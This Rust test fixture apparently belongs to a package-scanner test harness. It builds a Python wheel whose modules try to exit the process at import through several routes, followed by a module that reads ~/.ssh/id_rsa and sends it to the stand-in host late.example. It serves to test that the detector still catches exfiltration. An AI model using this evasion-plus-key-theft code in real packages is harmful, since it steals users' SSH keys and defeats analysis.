//! Ends the process when it is imported, by every way Python has.
//!
//! Must change nothing: the module after it steals, and is found.

use apa_model::{Ecosystem, IncompleteCode};

use crate::{Expect, Specimen, Wheel};

const EXITS: &str = r#"import os
import sys

try:
    sys.exit(0)
except SystemExit:
    pass
try:
    os._exit(0)
except BaseException:
    pass
os.abort()
"#;

const LATE: &str = r#"import os
import urllib.request

with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as file:
    urllib.request.urlopen("http://late.example/x", file.read(), timeout=5)
"#;

pub(super) fn specimen() -> Specimen {
    let package = Wheel::new("leaver", "1.0")
        .file("leaver/__init__.py", "")
        .file("leaver/a_exits.py", EXITS)
        .file("leaver/b_raises.py", "raise SystemExit(0)\n")
        .file("leaver/z_late.py", LATE);
    Specimen {
        name: "pypi-exits-at-import",
        ecosystem: Ecosystem::Pypi,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["canary-exfiltrated"])
            .lacking(&[IncompleteCode::HarnessIncomplete]),
    }
}
